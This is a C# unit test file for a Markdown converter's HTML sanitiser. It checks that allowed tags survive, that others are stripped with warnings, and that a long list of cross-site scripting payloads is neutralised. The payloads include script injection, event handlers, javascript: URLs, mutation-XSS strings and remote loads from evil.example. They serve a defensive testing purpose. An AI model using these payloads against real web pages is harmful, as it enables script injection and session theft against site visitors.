using Gazette.Diagnostics;

namespace Gazette.Tests.Markup;

public sealed class RawHtmlTests
{
    [Theory]
    [InlineData("H<sub>2</sub>O", "<p>H<sub>2</sub>O</p>\n")]
    [InlineData(
        "<details><summary>More</summary>\n\nWords with *stress*.\n\n</details>",
        "<details><summary>More</summary>\n<p>Words with <em>stress</em>.</p>\n</details>\n")]
    [InlineData("<ruby>汉<rt>hàn</rt></ruby>", "<p><ruby>汉<rt>hàn</rt></ruby></p>\n")]
    [InlineData("<time datetime=\"2024-05-15\">today</time>", "<p><time datetime=\"2024-05-15\">today</time></p>\n")]
    [InlineData("a<br/>b <!-- note to self --> c", "<p>a<br>b  c</p>\n")]
    [InlineData(
        "<table>\n<tr><td colspan=2>x</td></tr>\n</table>",
        "<div class=\"table\" role=\"group\" tabindex=\"0\" aria-label=\"Table\">"
            + "<table>\n<tbody><tr><td colspan=\"2\">x</td></tr>\n</tbody></table></div>\n")]
    [InlineData("<a href=\"../y/\">a</a>", "<p><a href=\"/2024/05/15/y/\">a</a></p>\n")]
    [InlineData(
        "<a href=\"https://example.org/?a=1&amp;b=2\">a</a>",
        "<p><a href=\"https://example.org/?a=1&amp;b=2\" rel=\"noopener\">a</a></p>\n")]
    public void Allowed_html_stays(string markdown, string html)
    {
        var result = Converted.From(markdown);
        Assert.Empty(result.Diagnostics);
        Assert.Equal(html, Converted.Text(result));
    }

    [Theory]
    [InlineData("<div class=\"x\">kept</div>", "<p>kept</p>\n", "removed-html")]
    [InlineData("a <font color=red>kept</font>", "<p>a kept</p>\n", "removed-html")]
    [InlineData("<mark style=\"color:red\">kept</mark>", "<p><mark>kept</mark></p>\n", "removed-html")]
    [InlineData("a <mark onclick=x>b</mark>", "<p>a <mark>b</mark></p>\n", "removed-html")]
    [InlineData("a <mark id=x>b</mark>", "<p>a <mark>b</mark></p>\n", "removed-html")]
    [InlineData("a <mark>b", "<p>a <mark>b</mark></p>\n", "unclosed-html")]
    [InlineData("a </mark> b", "<p>a  b</p>\n", "unopened-html")]
    [InlineData("a </p> b", "<p>a  b</p>\n", "unopened-html")]
    [InlineData("a <script>alert(1)</script> b", "<p>a  b</p>\n", "removed-html")]
    [InlineData("a <script>*b* c", "<p>a <em>b</em> c</p>\n", "removed-html")]
    [InlineData("<script>\nif (a < b) '</p>'\n</script>\n\nafter", "<p>after</p>\n", "removed-html")]
    [InlineData("<iframe src=//evil>\n*kept*\n\nafter", "\n*kept*\n<p>after</p>\n", "removed-html")]
    [InlineData("<svg><svg>1</svg>\nkept\n\nafter", "<p>\nkept</p>\n<p>after</p>\n", "removed-html")]
    [InlineData("<style>p{}</style>\n\nafter", "<p>after</p>\n", "removed-html")]
    [InlineData("<iframe src=//evil></iframe>\n\nafter", "<p>after</p>\n", "removed-html")]
    [InlineData("<svg><script>1</script><a></svg>\n\nafter", "\n<p>after</p>\n", "removed-html")]
    [InlineData("<figcaption>alone</figcaption>", "alone\n", "")]
    [InlineData("<summary>alone</summary>", "alone\n", "")]
    [InlineData("<details>\n\nwords\n\n</details>", "<details><summary>More</summary>\n<p>words</p>\n</details>\n", "")]
    [InlineData("<mark>\n\nwords\n\n</mark>", "\n<p>words</p>\n\n", "")]
    public void Other_html_goes_and_its_words_stay(string markdown, string html, string name)
    {
        var result = Converted.From(markdown);
        Assert.Equal(html, Converted.Text(result));
        Assert.Equal(name, result.Diagnostics.SingleOrDefault()?.Name ?? "");
        Assert.All(result.Diagnostics, complaint => Assert.Equal(Severity.Warning, complaint.Severity));
    }

    [Theory]
    [InlineData("<iframe src=x>\n甲\n\n乙")]
    [InlineData("<iframe src=x>\n\n甲\n\n</iframe>\n\n乙")]
    [InlineData("甲<svg>乙\n\n丙")]
    [InlineData("<video>\n甲\n\n</video")]
    [InlineData("<script>\n甲\n\n<b></style>乙")]
    public void What_stands_behind_an_active_element_without_an_end_is_shown_and_said_to_be(string markdown)
    {
        var result = Converted.From(markdown);
        Assert.Equal(markdown.Count(c => c is '甲' or '乙' or '丙'), Converted.Text(result).Count(c => c is '甲' or '乙' or '丙'));
        var complaint = result.Diagnostics.First(complaint => complaint.Name == "removed-html");
        Assert.Contains("is shown to readers as text", complaint.Message.ToString(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("甲<script>乙</script>丙")]
    [InlineData("<svg><svg>乙</svg></SVG >甲丙")]
    [InlineData("<style>\n乙\n\n乙</style>甲丙")]
    public void What_goes_with_an_active_element_is_said_to(string markdown)
    {
        var result = Converted.From(markdown);
        Assert.Equal("甲丙", string.Concat(Converted.Text(result).Where(c => c is '甲' or '乙' or '丙')));
        Assert.Contains(
            "together with what stands in it", Assert.Single(result.Diagnostics).Message.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public void Cells_outside_a_table_stay_apart()
    {
        var result = Converted.From("<tr><td>一</td><td>二</td></tr>");
        Assert.Contains("一 二", Converted.Text(result), StringComparison.Ordinal);
        Assert.Equal(3, result.Diagnostics.Count(complaint =>
            complaint.Name == "removed-html"
            && complaint.Message.ToString().Contains("outside a <table>", StringComparison.Ordinal)));
        Assert.Equal(3, result.Diagnostics.Count);
        Assert.Empty(Converted.From("<table>\n\n<tr>\n\n<td>一</td>\n\n</tr>\n\n</table>").Diagnostics);
    }

    [Theory]
    [InlineData("<section><div>一</div><div>二</div></section>", "<p>一</p><p>二</p>\n")]
    [InlineData("<section>一<h2>二</h2><ul><li>三</li><li>四</li></ul></section>", "<p>一</p><p>二</p><p>三</p><p>四</p>\n")]
    [InlineData("<center>一<hr>二</center>", "<p>一<br>二</p>\n")]
    [InlineData("<details><summary><div>一</div><div>二</div></summary>三</details>",
        "<details><summary>一 二 </summary>三</details>\n")]
    [InlineData("## 一 <div>二</div>三", "<h2 id=\"h-一-二三\">一 二 三</h2>\n")]
    public void What_stood_on_lines_of_its_own_still_does(string markdown, string html)
    {
        Assert.Equal(html, Converted.Html(markdown));
        ValidHtml.AssertSafe(html);
    }

    [Theory]
    [InlineData("<!-- 一\n\n二", "<p>&lt;!-- 一</p>\n<p>二</p>\n", "unclosed-html", 1)]
    [InlineData("零\n\n<!-- 一\n\n二 <!-- x -->", "<p>零</p>\n<p>&lt;!-- 一</p>\n<p>二 </p>\n", "unclosed-html", 3)]
    [InlineData("<!-- 一\n\n<!-- x -->\n二", "<p>&lt;!-- 一</p>\n<p>二</p>\n", "unclosed-html", 1)]
    [InlineData("<? 一\n\n二 ?>", "<p>&lt;? 一</p>\n<p>二 ?&gt;</p>\n", "unclosed-html", 1)]
    [InlineData("<!A 一\n\n> 二", "<p>&lt;!A 一</p>\n<blockquote>\n<p>二</p>\n</blockquote>\n", "unclosed-html", 1)]
    [InlineData("<![CDATA[ 一\n\n二", "<p>&lt;![CDATA[ 一</p>\n<p>二</p>\n", "unclosed-html", 1)]
    [InlineData("<script>\n一\n\n二", "<p>\n一</p>\n<p>二</p>\n", "removed-html", 1)]
    [InlineData("<style>\n一\n\n二", "<p>\n一</p>\n<p>二</p>\n", "removed-html", 1)]
    [InlineData("<details\n一\n\n二", "&lt;details\n一\n<p>二</p>\n", "unclosed-html", 1)]
    [InlineData("<details>一\n<!-- 二\n三\n</details>\n\n四",
        "<details><summary>More</summary>一\n&lt;!-- 二\n三\n&lt;/details&gt;\n<p>四</p>\n</details>", "unclosed-html", 2)]
    [InlineData("<? 一 ?>\n\n二", "<p>二</p>\n", "removed-html", 1)]
    [InlineData("零 <![CDATA[一]]>\n二", "<p>零 \n二</p>\n", "removed-html", 1)]
    public void What_is_never_closed_takes_no_words_with_it(string markdown, string html, string name, int line)
    {
        var result = Converted.From(markdown);
        Assert.Equal(html, Converted.Text(result));
        var complaint = result.Diagnostics[0];
        Assert.Equal((name, line), (complaint.Name, complaint.Location.Line));
    }

    [Fact]
    public void A_comment_that_is_closed_may_be_long() =>
        Assert.Equal("<p>二</p>\n", Converted.Html("<!-- 一\n\n> 一\n\n一 -->\n\n二"));

    [Theory]
    [InlineData("x\n\n<p>\nb <mark\n  onclick=1>c</mark></p>", 4, 3)]
    [InlineData("x\r\n\r\ny <font>z</font>", 3, 3)]
    [InlineData("> x\n>\n> <kbd>a</kbd>\n> <q>b <font>c</font></q>", 4, 8)]
    [InlineData("- x\n\n  <p>\n  a <blink>b</blink></p>", 4, 5)]
    public void What_was_taken_out_is_named_with_its_place(string markdown, int line, int column)
    {
        var location = Converted.DiagnosticCatalog(markdown).Location;
        Assert.Equal((line, column), (location.Line, location.Column));
    }

    public static TheoryData<string> Attacks() =>
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>", "<img src=\"photo.jpg\" alt=a onload=alert(1) srcset=\"//evil.example/a.png 2x\">",
        "<img/src=`x`onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=javascript:alert(1)>x</math>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=javascript:alert(1)>",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=x onmouseover=alert(1)>x</a>",
        "<a href='/x' target=_blank style='position:fixed'>x</a>", "<a/href=data:text/html,x>x</a>",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<body onload=alert(1)>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example'</style>",
        "<video src=//evil.example/x onerror=alert(1)></video>",
        "<table background=javascript:alert(1)><tr><td style=x>y</td></tr></table>", "<marquee onstart=alert(1)>x</marquee>",
        "<textarea><script>alert(1)</script>", "<title><img src=x onerror=alert(1)></title>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<plaintext>x",
        "<xmp><script>alert(1)</script></xmp>", "<template><script>alert(1)</script></template>",
        "<!--><script>alert(1)</script>-->", "<!--><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=javascript:alert(1)?>", "<!DOCTYPE html [<!ENTITY x \"y\">]>",
        "<mark title='\"><img src=x onerror=alert(1)>'>x</mark>", "<mark class='\"><script>'>x</mark>",
        "<abbr title=\"a\n\n<img src=x onerror=alert(1)>\n\n\">", "<details title=\"\n\n*x*\" onclick=alert(1)>\n\n\">y",
        "<q cite=javascript:alert(1)>x</q>", "<time datetime=\"'><script>\">x</time>",
        "![a](photo.jpg \"\\\" onload=alert(1)\")", "[a](/x \"\\\" onmouseover=alert(1)\")", "[a](/\"onmouseover=alert(1))",
        "![\\\" onerror=alert(1)](photo.jpg)", "[a](<javascript:alert(1)>)", "<javascript:alert(1)>",
        "```\" onclick=alert(1)\nx\n```", "```<script>\nx\n```", "## <script>alert(1)</script>",
        "*[\"><script>]: x\n\n\"><script> y", "*[HT]: \"><img src=x onerror=alert(1)>\n\nHT",
        "[^\"><script>]: x\n\n[^\"><script>]",
        "a|b\n-|-\n<script>alert(1)</script>|<img src=x onerror=alert(1)>", "</div></article><h1>Fake</h1>",
        "<h1 id=font-size>x</h1>", "<p id=\"font-size\">x</p>", "<ins cite=\"data:x\">y</ins>",
        "<a href=\"/x\"><a href=\"/y\">z</a></a>", "[<a href=\"/y\">z</a>](/x)", "<a href=\"/x\">[z](/y)[^1]</a>\n\n[^1]: w",
        "<table><a href=\"/x\"><tr><td>y</table>", "<ruby><rt><details><ruby>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_hostile_comes_through(string markdown)
    {
        foreach (var body in (string[])
        [
            markdown,
            "words " + markdown + " words",
            "- " + markdown.Replace("\n", "\n  ", StringComparison.Ordinal),
            "<details>\n\n" + markdown + "\n\n</details>\n\n**after**",
        ])
            ValidHtml.AssertSafe(Converted.Html(body));
    }

    /// <summary>The second opinion has eyes: it is not asked in vain what it would take out.</summary>
    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=\"/x.jpg\" onerror=\"alert(1)\">")]
    [InlineData("<a href=\"jav&#x09;ascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"vbscript:x\">x</a>")]
    [InlineData("<q cite=\"data:text/html,x\">x</q>")]
    [InlineData("<p style=\"position: fixed\">x</p>")]
    [InlineData("<!-- x -->")]
    [InlineData("<h1>x</h1>")]
    public void What_is_hostile_would_be_removed(string html) =>
        Assert.NotEmpty(Sanitizer.Removed(html, ValidHtml.Elements));

    [Fact]
    public void Deep_and_many_tags_are_bounded()
    {
        var result = Converted.From(string.Concat(Enumerable.Repeat("<details><mark onclick=x>", 2000)));
        Assert.InRange(result.Diagnostics.Count, 1, 200);
        ValidHtml.AssertSafe(Converted.Text(result));
    }
}
